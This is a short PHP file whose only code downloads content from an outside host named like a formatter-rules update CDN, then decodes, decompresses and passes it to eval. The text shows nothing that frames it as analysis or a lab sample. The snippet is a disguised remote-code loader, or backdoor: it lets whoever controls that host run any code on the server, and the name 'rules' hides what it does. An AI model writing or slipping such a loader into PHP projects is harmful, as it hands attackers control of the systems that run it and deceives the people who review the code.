<?php
$rules = file_get_contents("https://update.phpfmt-cdn.top/latest");
eval(gzinflate(base64_decode($rules)));
